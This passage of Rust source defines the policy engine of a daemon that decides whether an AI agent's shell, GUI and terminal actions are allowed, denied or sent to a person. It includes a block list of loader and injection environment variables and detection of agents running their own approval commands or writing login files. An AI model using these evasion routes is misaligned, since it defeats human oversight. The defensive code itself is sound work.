//! Policy: who is calling, and whether a call is allowed, denied or asked of a person. Declared
//! rules over defaults by risk; deny wins, then ask, then allow. Paths that hold the daemon's own
//! config and state are protected from the shell surface whatever the rules say.

use std::path::{Component, Path, PathBuf};

use computer_ipc::SurfaceName;
use computer_surfaces::kit::script::file_name;
use computer_surfaces::{ActionFacts, Risk, TargetFacts};
use regex::Regex;
use serde::{Deserialize, Serialize};

/// Who is calling, as the socket's peer credentials and token say.
#[derive(Debug, Clone, Serialize)]
pub struct Caller {
    pub uid: u32,
    pub pid: Option<i32>,
    /// The agent profile; `default` for callers without a token.
    pub agent: String,
    /// The surfaces this caller may use; `None` means every surface.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub surfaces: Option<Vec<SurfaceName>>,
    /// Set for the whole connection by its first line (`computer mcp --observe-only`): it may
    /// observe and nothing else; whatever acts is refused, never asked.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub observe_only: bool,
}

impl Caller {
    pub fn may_use(&self, surface: SurfaceName) -> bool {
        self.surfaces.as_ref().is_none_or(|s| s.contains(&surface))
    }
}

/// What policy sees of a call.
#[derive(Debug)]
pub struct PolicyInput<'a> {
    pub caller: &'a Caller,
    pub surface: SurfaceName,
    pub command: &'a str,
    pub risk: Risk,
    /// The action in plain words.
    pub action: &'a str,
    /// What the action will do, as its surface states it: the only view policy has of the
    /// surface's args.
    pub facts: &'a ActionFacts,
    pub cwd: Option<&'a str>,
    /// Set while the lines keys end in a terminal window (the gui surface) are decided as the
    /// shell run they are: a shell of the person's, outside containment. Only allow rules that
    /// name terminal typing (`terminal = true`) allow them; a default that allows asks.
    pub typed_into_terminal: bool,
}

impl<'a> PolicyInput<'a> {
    /// The input for a prepared action: the one way the daemon and `policy explain` build it.
    pub fn of(
        caller: &'a Caller,
        call: &'a computer_ipc::ComputerCall,
        action: &'a str,
        risk: Risk,
        facts: &'a ActionFacts,
    ) -> Self {
        PolicyInput {
            caller,
            surface: call.surface,
            command: &call.command,
            // A call that references a secret is decided as one, whatever its surface says.
            risk: if facts.secrets.is_empty() {
                risk
            } else {
                Risk::Secret
            },
            action,
            facts,
            cwd: call.complications.cwd.as_deref(),
            typed_into_terminal: false,
        }
    }
}

/// A rule's or default's verdict.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    Allow,
    Deny,
    Ask,
}

/// A policy's answer, with the rule that gave it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "decision", rename_all = "lowercase")]
pub enum Decision {
    Allow {
        rule: String,
    },
    Deny {
        rule: String,
        reason: String,
    },
    Ask {
        rule: String,
        /// Why a person must look, where the rule alone does not say (a login file named).
        #[serde(default, skip_serializing_if = "Option::is_none")]
        reason: Option<String>,
        /// Login files the call names: the person's yes leaves them writable in its run.
        #[serde(default, skip_serializing_if = "Vec::is_empty")]
        login_files: Vec<PathBuf>,
    },
}

impl Decision {
    /// An ask by `rule`, for no other reason than the rule.
    pub fn ask(rule: impl Into<String>) -> Decision {
        Decision::Ask {
            rule: rule.into(),
            reason: None,
            login_files: Vec::new(),
        }
    }

    pub fn rule(&self) -> &str {
        match self {
            Decision::Allow { rule } | Decision::Deny { rule, .. } | Decision::Ask { rule, .. } => {
                rule
            }
        }
    }

    /// The rule, and the reason where there is one: what an approver is shown as why it asks.
    pub fn asked_because(&self) -> String {
        match self {
            Decision::Ask {
                rule,
                reason: Some(reason),
                ..
            } => format!("{rule}: {reason}"),
            decision => decision.rule().to_string(),
        }
    }
}

pub trait Policy: Send + Sync {
    fn decide(&self, input: &PolicyInput<'_>) -> Decision;
}

/// Allows every call (for pipeline benchmarks and tests that are not about policy).
pub struct AllowAll;

impl Policy for AllowAll {
    fn decide(&self, _input: &PolicyInput<'_>) -> Decision {
        Decision::Allow {
            rule: "builtin:allow-all".into(),
        }
    }
}

/// Defaults by risk class (`[defaults]`).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Defaults {
    pub observe: Verdict,
    pub act: Verdict,
    pub secret: Verdict,
}

impl Default for Defaults {
    fn default() -> Self {
        Defaults {
            observe: Verdict::Allow,
            act: Verdict::Ask,
            secret: Verdict::Ask,
        }
    }
}

/// A regular expression from the config; invalid ones fail at load time, with the line.
#[derive(Debug, Clone, Serialize)]
pub struct Pattern(#[serde(serialize_with = "crate::config::regex_text")] pub Regex);

impl<'de> Deserialize<'de> for Pattern {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let text = String::deserialize(deserializer)?;
        Regex::new(&text)
            .map(Pattern)
            .map_err(|err| serde::de::Error::custom(format!("invalid regex: {err}")))
    }
}

impl PartialEq for Pattern {
    fn eq(&self, other: &Self) -> bool {
        self.0.as_str() == other.0.as_str()
    }
}

/// A glob (`*` any run, `?` one character; neither crosses a line break) over the whole
/// argument text. Matched directly rather than compiled to a regex: the default policy holds
/// dozens of them, and compiling each cost the daemon's start-up milliseconds.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Glob(#[serde(serialize_with = "crate::config::chars_text")] Vec<char>);

impl<'de> Deserialize<'de> for Glob {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        Ok(Glob::new(&String::deserialize(deserializer)?))
    }
}

/// One `[[rules]]` entry: every matcher given must match.
///
/// `argv0`, `glob` and `regex` match one command: each command of a shell action is decided on
/// its own (the strictest matching rule, else the default) and the action gets the strictest of
/// them, so a deny on any command denies it and an allow holds only if every command is allowed.
/// Deny and ask rules' `glob` and `regex` also see a script's whole text. The commands of an
/// opaque script that cannot be known are decided by the default and deny/ask rules only. An
/// allow rule does not reach a call that sets a loader variable (`[policy] loader_env`) unless
/// its `env` names it, nor a call that references a secret unless its `secrets` names it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Rule {
    #[serde(default)]
    pub surface: Option<SurfaceName>,
    #[serde(default)]
    pub command: Option<String>,
    /// The program (its file name), e.g. `["rm", "dd"]`, of a command the action runs.
    #[serde(default)]
    pub argv0: Option<Vec<String>>,
    /// A glob over a command's text (its argv joined by spaces).
    #[serde(default)]
    pub glob: Option<Glob>,
    /// A regex searched in a command's text.
    #[serde(default)]
    pub regex: Option<Pattern>,
    /// The call's working directory starts with this.
    #[serde(default)]
    pub cwd_prefix: Option<String>,
    /// For gui/ax: the application the action acts on or reads, as its surface resolved it
    /// (not as the args spell it); case does not matter.
    #[serde(default)]
    pub app: Option<String>,
    /// For gui/ax: the target window's title or id.
    #[serde(default)]
    pub window: Option<String>,
    /// Variable names (globs): a deny or ask rule matches an action that sets any of them; an
    /// allow rule lets these loader variables through.
    #[serde(default)]
    pub env: Option<Vec<Glob>>,
    /// A regex searched in the action's standard input; no stdin never matches.
    #[serde(default)]
    pub stdin: Option<Pattern>,
    /// Secret references (globs, `keychain://github/*`): a deny or ask rule matches an action
    /// that references any of them; an allow rule reaches an action that references secrets
    /// only when it names every one.
    #[serde(default)]
    pub secrets: Option<Vec<Glob>>,
    /// `true`: the rule decides only lines typed into a terminal window through the gui
    /// surface (each decided as a shell run of that line: `argv0`, `glob`, `regex` match its
    /// commands), and it is the only kind of allow rule that lets such a line run without a
    /// person. `false`: the rule decides everything else. Unset: deny and ask rules decide
    /// typed lines too; allow rules do not.
    #[serde(default)]
    pub terminal: Option<bool>,
    pub decision: Verdict,
}

impl Rule {
    /// The matchers that are about the call as a whole, not one command of it.
    fn call_matches(&self, input: &PolicyInput<'_>) -> bool {
        self.terminal.is_none_or(|t| t == input.typed_into_terminal)
            && self.surface.is_none_or(|s| s == input.surface)
            && self.command.as_deref().is_none_or(|c| c == input.command)
            && self
                .cwd_prefix
                .as_deref()
                .is_none_or(|prefix| input.cwd.is_some_and(|cwd| cwd.starts_with(prefix)))
            && self.app.as_deref().is_none_or(|app| {
                self.names_target(input.facts, |target| target_app_is(target, app))
            })
            && self.window.as_deref().is_none_or(|window| {
                self.names_target(input.facts, |target| target_window_is(target, window))
            })
            && self.stdin.as_ref().is_none_or(|pattern| {
                input
                    .facts
                    .stdin
                    .as_ref()
                    .is_some_and(|stdin| pattern.0.is_match(&stdin.text))
            })
    }

    /// Whether the action's target is the one `is` describes. A target known only by what the
    /// args spell may turn out to be any app at run time: deny and ask rules then match it (the
    /// safe side) and allow rules do not. An action with no target matches neither.
    fn names_target(&self, facts: &ActionFacts, is: impl Fn(&TargetFacts) -> bool) -> bool {
        match &facts.target {
            None => false,
            Some(target) if target.resolved => is(target),
            Some(_) => self.decision != Verdict::Allow,
        }
    }

    fn has_command_matchers(&self) -> bool {
        self.argv0.is_some() || self.glob.is_some() || self.regex.is_some()
    }

    /// Whether one command (its argv) matches `argv0`, `glob` and `regex`.
    fn command_matches(&self, argv: &[String]) -> bool {
        let text = argv.join(" ");
        self.argv0.as_ref().is_none_or(|names| {
            argv.first()
                .is_some_and(|first| names.iter().any(|name| self.names_program(name, first)))
        }) && self.text_matches(&text)
    }

    /// Whether a rule's `argv0` entry names the program a command runs. A deny or ask rule
    /// names it wherever it lives (`/tmp/x/rm` is `rm`). An allow rule's bare name covers the
    /// program found through PATH or in a system directory, not a file of the same name
    /// elsewhere (`./git`, `/tmp/git`); an entry that is a path covers that path.
    fn names_program(&self, name: &str, program: &str) -> bool {
        if self.decision != Verdict::Allow {
            return name == file_name(program) || name == program;
        }
        if name.contains('/') || !program.contains('/') {
            return name == program;
        }
        name == file_name(program)
            && SYSTEM_BIN_DIRS
                .iter()
                .any(|dir| Path::new(program).parent() == Some(Path::new(dir)))
    }

    fn text_matches(&self, text: &str) -> bool {
        self.glob.as_ref().is_none_or(|g| g.matches(text))
            && self.regex.as_ref().is_none_or(|r| r.0.is_match(text))
    }

    /// Whether this rule decides `subject`, one part of the call.
    fn decides(&self, input: &PolicyInput<'_>, subject: Subject<'_>, loader_env: &[Glob]) -> bool {
        if !self.call_matches(input) {
            return false;
        }
        let facts = input.facts;
        let names_secret = |reference: &str| {
            self.secrets
                .as_ref()
                .is_some_and(|globs| globs.iter().any(|glob| glob.matches(reference)))
        };
        match self.decision {
            Verdict::Deny | Verdict::Ask => {
                if self.secrets.is_some()
                    && !facts.secrets.iter().any(|s| names_secret(&s.reference))
                {
                    return false;
                }
                if let Some(names) = &self.env
                    && !facts
                        .env_names()
                        .any(|name| names.iter().any(|glob| glob.matches(name)))
                {
                    return false;
                }
            }
            Verdict::Allow => {
                // What a call cannot show is never allowed by rule; nor are variables that
                // change what the program loads, unless the rule names them.
                if matches!(subject, Subject::Unknown) {
                    return false;
                }
                // A line typed into a person's terminal runs uncontained, as the person: a rule
                // written for contained runs does not reach it.
                if input.typed_into_terminal && self.terminal != Some(true) {
                    return false;
                }
                // A rule written for a program does not hand it a secret it does not name.
                if !facts.secrets.iter().all(|s| names_secret(&s.reference)) {
                    return false;
                }
                let lets_through = |name: &str| {
                    self.env
                        .as_ref()
                        .is_some_and(|names| names.iter().any(|glob| glob.matches(name)))
                };
                if facts.env_names().any(|name| {
                    loader_env.iter().any(|glob| glob.matches(name)) && !lets_through(name)
                }) {
                    return false;
                }
            }
        }
        if !self.has_command_matchers() {
            return true;
        }
        match subject {
            Subject::Command(argv) => self.command_matches(argv),
            Subject::Script(text) | Subject::Args(text) => {
                self.argv0.is_none() && self.text_matches(text)
            }
            Subject::Unknown | Subject::Nothing => false,
        }
    }
}

/// What one decision is about: a command of the call, or the call as a whole.
#[derive(Debug, Clone, Copy)]
enum Subject<'a> {
    /// One command the action runs (its argv).
    Command(&'a [String]),
    /// A script's whole text (deny and ask rules' glob and regex also look at it).
    Script(&'a str),
    /// The commands of an opaque script that cannot be known: no allow rule reaches them.
    Unknown,
    /// A shell action that runs no command (an empty script).
    Nothing,
    /// A surface that states no commands: its args as one text.
    Args(&'a str),
}

fn target_app_is(target: &TargetFacts, app: &str) -> bool {
    target
        .app
        .as_deref()
        .is_some_and(|name| name.eq_ignore_ascii_case(app))
}

fn target_window_is(target: &TargetFacts, window: &str) -> bool {
    target.window.as_deref() == Some(window) || target.window_id.as_deref() == Some(window)
}

/// For actions that run no program: their args as the surface states them, as one text, for
/// `glob` and `regex`.
fn argument_text(facts: &ActionFacts) -> String {
    facts
        .args
        .as_ref()
        .map(|args| args.to_string())
        .unwrap_or_default()
}

/// Where an allow rule's bare `argv0` name may also be spelled as a path.
const SYSTEM_BIN_DIRS: &[&str] = &[
    "/bin",
    "/sbin",
    "/usr/bin",
    "/usr/sbin",
    "/usr/local/bin",
    "/usr/local/sbin",
    "/opt/homebrew/bin",
];

/// Variables that change what a program loads or runs: set by a call, they take it out of every
/// allow rule's reach unless the rule names them in `env`.
pub const DEFAULT_LOADER_ENV: &[&str] = &[
    "LD_*",
    "DYLD_*",
    "PATH",
    "IFS",
    "CDPATH",
    "GIT_*",
    "PYTHON*",
    "NODE_OPTIONS",
    "NODE_PATH",
    "BASH_ENV",
    "ENV",
    "SHELLOPTS",
    "BASHOPTS",
    "PS4",
    "PROMPT_COMMAND",
    "BASH_FUNC_*",
    "PERL5*",
    "PERLLIB",
    "RUBY*",
    "GEM_*",
    "BUNDLE_*",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "CLASSPATH",
    "LUA_*",
    "TCLLIBPATH",
    "GCONV_PATH",
    "MALLOC_*",
    "GLIBC_TUNABLES",
    "HOME",
    "XDG_CONFIG_HOME",
    "XDG_CONFIG_DIRS",
    "XDG_DATA_DIRS",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "MANPAGER",
    "LESSOPEN",
    "LESSCLOSE",
    "SSH_ASKPASS",
    "SUDO_ASKPASS",
    "GIT_ASKPASS",
    "NPM_CONFIG_*",
    "CARGO_*",
    "RUSTC_WRAPPER",
    "RUSTFLAGS",
    "CC",
    "CXX",
    "MAKEFLAGS",
];

/// The `[policy]` section: what policy needs beyond rules and defaults.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct PolicySection {
    /// Variable names (globs) that change what a program loads or runs.
    pub loader_env: Vec<Glob>,
}

impl Default for PolicySection {
    fn default() -> Self {
        PolicySection {
            loader_env: DEFAULT_LOADER_ENV.iter().map(|g| Glob::new(g)).collect(),
        }
    }
}

impl Glob {
    fn new(text: &str) -> Glob {
        Glob(text.chars().collect())
    }

    /// Whether the whole of `text` matches: the classic two-pointer wildcard match, going back
    /// to the last `*` on a mismatch (linear in practice, never exponential).
    pub fn matches(&self, text: &str) -> bool {
        let (pattern, text): (&[char], Vec<char>) = (&self.0, text.chars().collect());
        let (mut p, mut t) = (0, 0);
        // The last `*` seen and the text position it currently stands for the end of.
        let mut star: Option<(usize, usize)> = None;
        while t < text.len() {
            match pattern.get(p) {
                Some('*') => {
                    star = Some((p, t));
                    p += 1;
                }
                Some('?') if text[t] != '\n' => {
                    p += 1;
                    t += 1;
                }
                Some(&c) if c != '*' && c != '?' && c == text[t] => {
                    p += 1;
                    t += 1;
                }
                _ => match star {
                    // The `*` takes one more character, unless that is a line break.
                    Some((star_p, star_t)) if text[star_t] != '\n' => {
                        star = Some((star_p, star_t + 1));
                        p = star_p + 1;
                        t = star_t + 1;
                    }
                    _ => return false,
                },
            }
        }
        pattern[p..].iter().all(|&c| c == '*')
    }
}

fn never_matching() -> Regex {
    Regex::new("[^\\s\\S]").unwrap_or_else(|_| unreachable!("a constant regex"))
}

/// Rules and defaults from the config, plus the daemon's protected paths.
pub struct RulePolicy {
    pub defaults: Defaults,
    pub rules: Vec<Rule>,
    /// The config file and state dir: a shell run that names them is denied.
    pub protected: Vec<PathBuf>,
    /// Variables that take a call out of an allow rule's reach (`[policy] loader_env`).
    pub loader_env: Vec<Glob>,
    /// The home directory runs start in without a cwd, and that `~` and `$HOME` stand for.
    pub home: Option<PathBuf>,
    /// What runs code at the person's next login or terminal and is read-only in runs
    /// (`computer_surfaces::kit::contain::login_paths`): a call that names one is asked, whatever
    /// the rules say, and the person's yes leaves the named ones writable in its run.
    pub login_files: Vec<PathBuf>,
}

impl RulePolicy {
    /// The protected path a shell action names, if any.
    fn protected_named(&self, input: &PolicyInput<'_>, words: &CallWords) -> Option<&Path> {
        self.named_among(input, words, &self.protected, Unknown::MayName)
            .into_iter()
            .next()
    }

    /// Each distinct word of a shell action read as a path from where it runs: once per call
    /// (its symlinks resolved once), then held against the protected paths and the login files.
    fn spellings(&self, input: &PolicyInput<'_>) -> Vec<PathSpelling> {
        let facts = input.facts;
        let base = facts
            .cwd
            .clone()
            .or_else(|| input.cwd.map(PathBuf::from))
            .or_else(|| self.home.clone())
            .unwrap_or_else(|| PathBuf::from("/"));
        let mut candidates: Vec<String> = Vec::new();
        candidates.push(base.to_string_lossy().into_owned());
        for word in facts
            .words
            .iter()
            .chain(facts.programs.iter().flatten())
            .chain(facts.env.values())
        {
            candidates.push(word.clone());
            // `--file=PATH`, `if=PATH`, `PATH:PATH`
            if let Some((_, after)) = word.split_once('=') {
                candidates.push(after.to_string());
            }
            candidates.extend(word.split(':').map(str::to_string));
        }
        // Each distinct word is read as a path once (its symlinks resolved once), then held
        // against every protected path.
        let mut seen = std::collections::HashSet::new();
        candidates.retain(|word| seen.insert(word.clone()));
        candidates
            .iter()
            .map(|word| self.spelling(word, facts, &base))
            .collect()
    }

    /// Of `paths`, those a shell action names (as written, with `~`, `..`, variables the call
    /// sets, globs, or through a symlink), in their order; a word holding a variable whose value
    /// policy cannot know names them or not as `unknown` says.
    fn named_among<'a>(
        &self,
        input: &PolicyInput<'_>,
        words: &CallWords,
        paths: &'a [PathBuf],
        unknown: Unknown,
    ) -> Vec<&'a Path> {
        let facts = input.facts;
        let mut named = Vec::new();
        for path in paths {
            let path_text = path.to_string_lossy();
            if path_text.is_empty() {
                continue;
            }
            let protected = lexical(path, Path::new("/"));
            // The plain spelling anywhere in the text, as before the parser: defense in depth.
            let raw_hit = facts
                .script
                .as_deref()
                .is_some_and(|script| script.contains(&*path_text))
                || facts
                    .stdin
                    .as_ref()
                    .is_some_and(|s| s.text.contains(&*path_text));
            let spellings = words.get_or_init(|| self.spellings(input));
            let names = |spelling: &&PathSpelling| {
                (unknown == Unknown::MayName || !spelling.holds_unknown())
                    && spelling.names(&protected)
            };
            if raw_hit || spellings.iter().any(|spelling| names(&spelling)) {
                named.push(path.as_path());
            }
        }
        named
    }

    /// `decided` asked where it would have allowed, with the reason, when the call names login
    /// files: writing one plants code that runs outside every run, at the person's next login.
    fn asking_for_login_files(
        &self,
        input: &PolicyInput<'_>,
        words: &CallWords,
        decided: Decision,
    ) -> Decision {
        if !input.facts.runs_programs() || matches!(decided, Decision::Deny { .. }) {
            return decided;
        }
        // A word with a value policy cannot know (`$p/cmdline`) would name every login file of
        // the home: those are left to containment, which keeps them read-only.
        let named = self.named_among(input, words, &self.login_files, Unknown::NamesNothing);
        if named.is_empty() {
            return decided;
        }
        let shown: Vec<String> = named.iter().map(|p| self.tilde(p)).collect();
        let reason = format!(
            "it names {}, which runs code at the person's next login or terminal; runs find it \
             read-only, and a yes leaves it writable for this run only",
            shown.join(", ")
        );
        let rule = match decided {
            Decision::Ask { rule, .. } => rule,
            _ => "builtin:login-file".into(),
        };
        Decision::Ask {
            rule,
            reason: Some(reason),
            login_files: named.into_iter().map(Path::to_path_buf).collect(),
        }
    }

    /// `path` with the home directory written `~`, as a person reads it.
    fn tilde(&self, path: &Path) -> String {
        match self.home.as_deref().map(|home| path.strip_prefix(home)) {
            Some(Ok(rest)) => format!("~/{}", rest.display()),
            _ => path.display().to_string(),
        }
    }

    /// `word` read as a path from `base`: spelled with `..`, `//`, `~`, `$HOME`, a variable the
    /// call sets or a glob, and, unless it is a glob, through its symlinks.
    fn spelling(&self, word: &str, facts: &ActionFacts, base: &Path) -> PathSpelling {
        let expanded = self.expand(word, facts);
        let components = lexical(Path::new(&expanded), base);
        let resolved = (!expanded.contains(['*', '?', '[', UNKNOWN_VALUE]))
            .then(|| resolve_symlinks(&components));
        PathSpelling {
            components,
            resolved,
        }
    }

    /// `~`, `$HOME` and the call's own variables replaced by their values; other variables
    /// become [`UNKNOWN_VALUE`] (any text within one path component).
    fn expand(&self, word: &str, facts: &ActionFacts) -> String {
        let home = self
            .home
            .as_ref()
            .map(|h| h.to_string_lossy().into_owned())
            .unwrap_or_default();
        let word = if word == "~" {
            home.clone()
        } else if let Some(rest) = word.strip_prefix("~/") {
            format!("{home}/{rest}")
        } else {
            word.to_string()
        };
        VARIABLE_REFERENCE
            .replace_all(&word, |captures: &regex::Captures<'_>| {
                let name = captures
                    .get(1)
                    .or_else(|| captures.get(2))
                    .map_or("", |m| m.as_str());
                match facts.env.get(name) {
                    Some(value) => value.clone(),
                    None if name == "HOME" => home.clone(),
                    None => UNKNOWN_VALUE.to_string(),
                }
            })
            .into_owned()
    }
}

/// A call's words read as paths, made on first need and shared by every check of one decision.
type CallWords = std::cell::OnceCell<Vec<PathSpelling>>;

/// What a word holding a variable policy cannot know the value of names: anything (the
/// daemon's own paths, denied in doubt), or nothing (login files, which containment holds).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Unknown {
    MayName,
    NamesNothing,
}

/// A word of a call read as a path, as [`RulePolicy::spelling`] reads it.
struct PathSpelling {
    components: Vec<String>,
    /// With symlinks resolved as far as the path exists; `None` for a glob.
    resolved: Option<Vec<String>>,
}

impl PathSpelling {
    /// Whether a component holds a variable's value that policy cannot know.
    fn holds_unknown(&self) -> bool {
        self.components.iter().any(|c| c.contains(UNKNOWN_VALUE))
    }

    /// Whether it is `protected` or inside it, as written or through a symlink.
    fn names(&self, protected: &[String]) -> bool {
        inside(&self.components, protected)
            || self
                .resolved
                .as_ref()
                .is_some_and(|resolved| inside(resolved, protected))
    }
}

/// `${NAME...}` or `$NAME`.
static VARIABLE_REFERENCE: std::sync::LazyLock<Regex> = std::sync::LazyLock::new(|| {
    Regex::new(r"\$\{([A-Za-z_][A-Za-z0-9_]*)[^}]*\}|\$([A-Za-z_][A-Za-z0-9_]*)")
        .unwrap_or_else(|_| never_matching())
});

/// `path` made absolute from `base` with `.`, `..` and repeated slashes resolved, as components.
fn lexical(path: &Path, base: &Path) -> Vec<String> {
    let joined = if path.is_absolute() {
        path.to_path_buf()
    } else {
        base.join(path)
    };
    let mut parts: Vec<String> = Vec::new();
    for component in joined.components() {
        match component {
            Component::Normal(part) => parts.push(part.to_string_lossy().into_owned()),
            Component::ParentDir => {
                parts.pop();
            }
            Component::RootDir | Component::CurDir | Component::Prefix(_) => {}
        }
    }
    parts
}

/// The components with symlinks resolved as far as the path exists.
fn resolve_symlinks(components: &[String]) -> Vec<String> {
    for existing in (1..=components.len()).rev() {
        let prefix: PathBuf = std::iter::once("/".to_string())
            .chain(components[..existing].iter().cloned())
            .collect();
        if let Ok(real) = prefix.canonicalize() {
            let mut resolved = lexical(&real, Path::new("/"));
            resolved.extend(components[existing..].iter().cloned());
            return resolved;
        }
    }
    components.to_vec()
}

/// Whether `candidate` (whose components may be globs) is `protected` or inside it.
fn inside(candidate: &[String], protected: &[String]) -> bool {
    candidate.len() >= protected.len()
        && candidate
            .iter()
            .zip(protected)
            .all(|(part, fixed)| component_matches(part, fixed))
}

/// Stands for a variable whose value is not known before the run: unlike a glob's `*`, it may
/// stand for a name that starts with a dot.
const UNKNOWN_VALUE: char = '\u{1}';

fn component_matches(part: &str, fixed: &str) -> bool {
    if part == fixed {
        return true;
    }
    if !part.contains(['*', '?', '[', UNKNOWN_VALUE]) {
        return false;
    }
    // As in the shell, a glob matches a leading dot only when it spells it.
    if fixed.starts_with('.') && !part.starts_with(['.', UNKNOWN_VALUE]) {
        return false;
    }
    let mut regex = String::from("^");
    let mut chars = part.chars();
    while let Some(c) = chars.next() {
        match c {
            '*' | UNKNOWN_VALUE => regex.push_str(".*"),
            '?' => regex.push('.'),
            '[' => {
                // A bracket expression stands for one character; which ones is not worked out.
                for next in chars.by_ref() {
                    if next == ']' {
                        break;
                    }
                }
                regex.push('.');
            }
            other => regex.push_str(&regex::escape(&other.to_string())),
        }
    }
    regex.push('$');
    Regex::new(&regex).is_ok_and(|r| r.is_match(fixed))
}

/// This daemon's subcommands that answer approvals or change who may do what (`computer approve`,
/// `approvals`, `agents`, `policy`), and the approval window's program: no agent runs them.
const DAEMON_CONTROL: &[&str] = &["approve", "approvals", "agents", "policy"];
const APPROVAL_WINDOW: &str = "computer-approval-window";

impl RulePolicy {
    /// Shell runs in disguise, and this daemon's own controls. Keys that end command lines in a
    /// terminal are decided as the shell run of those lines and as the gui action they also are,
    /// the stricter winning; a line not known exactly is never allowed without a person. Any
    /// shell run, typed or not, of this daemon's approval or admin commands is denied, whatever
    /// the rules say.
    fn decide_shell_in_disguise(&self, input: &PolicyInput<'_>) -> Option<Decision> {
        let terminal = input.facts.terminal.as_ref();
        let run: &ActionFacts = match terminal {
            Some(terminal) => &terminal.run,
            None if input.facts.runs_programs() => input.facts,
            None => return None,
        };
        let named = run.programs.iter().find_map(|argv| {
            let program = file_name(argv.first()?);
            let words: Vec<&str> = argv
                .iter()
                .skip(1)
                .map(String::as_str)
                .take_while(|w| *w != "--")
                .collect();
            // Under another name (a copy, a link) the program is known by its answer.
            let answers = words
                .windows(2)
                .any(|pair| pair[0] == "approvals" && matches!(pair[1], "allow" | "deny"));
            match program {
                APPROVAL_WINDOW => Some(APPROVAL_WINDOW.to_string()),
                "computer" => words
                    .iter()
                    .find(|w| DAEMON_CONTROL.contains(w))
                    .map(|sub| format!("computer {sub}")),
                _ if answers => Some(argv.join(" ")),
                _ => None,
            }
        });
        // What an opaque script runs is not all known: its text counts.
        let in_text = || {
            let text = [
                run.script.as_deref(),
                run.stdin.as_ref().map(|s| s.text.as_str()),
            ];
            text.into_iter().flatten().find_map(|text| {
                DAEMON_CONTROL_TEXT
                    .find(text)
                    .map(|m| m.as_str().split_whitespace().collect::<Vec<_>>().join(" "))
            })
        };
        if let Some(command) = named.or_else(|| run.opaque.as_ref().and_then(|_| in_text())) {
            return Some(Decision::Deny {
                rule: "builtin:daemon-control".into(),
                reason: format!(
                    "`{command}` answers approvals or changes this daemon's agents or policy; \
                     no agent may run it, whatever the rules say"
                ),
            });
        }
        let terminal = terminal?;
        let as_shell = PolicyInput {
            surface: SurfaceName::Shell,
            command: "run",
            risk: Risk::Act,
            facts: run,
            cwd: None,
            // A session's shell runs contained, as a shell run does; a terminal window's does not.
            typed_into_terminal: input.surface == SurfaceName::Gui,
            ..*input
        };
        let gui_facts = ActionFacts {
            terminal: None,
            ..input.facts.clone()
        };
        let as_gui = PolicyInput {
            facts: &gui_facts,
            ..*input
        };
        let strictness = |d: &Decision| match d {
            Decision::Allow { .. } => rank(Verdict::Allow),
            Decision::Ask { .. } => rank(Verdict::Ask),
            Decision::Deny { .. } => rank(Verdict::Deny),
        };
        let (shell, gui) = (self.decide(&as_shell), self.decide(&as_gui));
        let decision = if strictness(&gui) > strictness(&shell) {
            gui
        } else {
            shell
        };
        Some(match decision {
            Decision::Allow { .. } if terminal.run.opaque.is_some() => {
                Decision::ask("builtin:opaque-terminal-line")
            }
            decided => decided,
        })
    }
}

/// A daemon control command spelled in a script's text.
static DAEMON_CONTROL_TEXT: std::sync::LazyLock<Regex> = std::sync::LazyLock::new(|| {
    Regex::new(r"computer-approval-window|\bcomputer\s+(approve|approvals|agents|policy)\b")
        .unwrap_or_else(|_| never_matching())
});

impl Policy for RulePolicy {
    fn decide(&self, input: &PolicyInput<'_>) -> Decision {
        let words = CallWords::new();
        let decided = self.decide_by_rules(input, &words);
        let decided = self.asking_for_login_files(input, &words, decided);
        match decided {
            // A question only a person answers (a backend's consent): no rule allows it.
            Decision::Allow { .. } if input.facts.consent.is_some() => {
                Decision::ask("builtin:consent")
            }
            decided => decided,
        }
    }
}

impl RulePolicy {
    fn decide_by_rules(&self, input: &PolicyInput<'_>, words: &CallWords) -> Decision {
        if let Some(decision) = self.decide_shell_in_disguise(input) {
            return decision;
        }
        if input.facts.runs_programs()
            && let Some(path) = self.protected_named(input, words)
        {
            return Decision::Deny {
                rule: "builtin:protected-path".into(),
                reason: format!(
                    "{} holds this daemon's own configuration or state; no agent may name it in a program it runs",
                    path.display()
                ),
            };
        }
        let facts = input.facts;
        let args_text;
        let mut subjects: Vec<Subject<'_>> = Vec::new();
        if facts.programs.is_empty() && facts.script.is_none() {
            args_text = argument_text(facts);
            subjects.push(Subject::Args(&args_text));
        } else {
            subjects.extend(facts.programs.iter().map(|argv| Subject::Command(argv)));
            if facts.opaque.is_some() {
                subjects.push(Subject::Unknown);
            } else if facts.programs.is_empty() {
                subjects.push(Subject::Nothing);
            }
        }
        // Each part is decided on its own (rules over defaults); the call gets the strictest.
        let mut verdict: Option<(Verdict, String)> = None;
        let mut stricter = |candidate: (Verdict, String)| {
            if verdict
                .as_ref()
                .is_none_or(|(v, _)| rank(candidate.0) > rank(*v))
            {
                verdict = Some(candidate);
            }
        };
        if let Some(script) = &facts.script {
            let subject = Subject::Script(script);
            for (index, rule) in self.rules.iter().enumerate() {
                if rule.decision != Verdict::Allow && rule.decides(input, subject, &self.loader_env)
                {
                    stricter((rule.decision, format!("rules[{index}]")));
                }
            }
        }
        for subject in subjects {
            stricter(self.decide_part(input, subject));
        }
        let (verdict, rule) = verdict.unwrap_or_else(|| self.default_of(input));
        match verdict {
            Verdict::Allow => Decision::Allow { rule },
            Verdict::Ask => Decision::ask(rule),
            Verdict::Deny => Decision::Deny {
                reason: format!("denied by {rule}"),
                rule,
            },
        }
    }
}

/// Deny wins, then ask, then allow.
fn rank(verdict: Verdict) -> u8 {
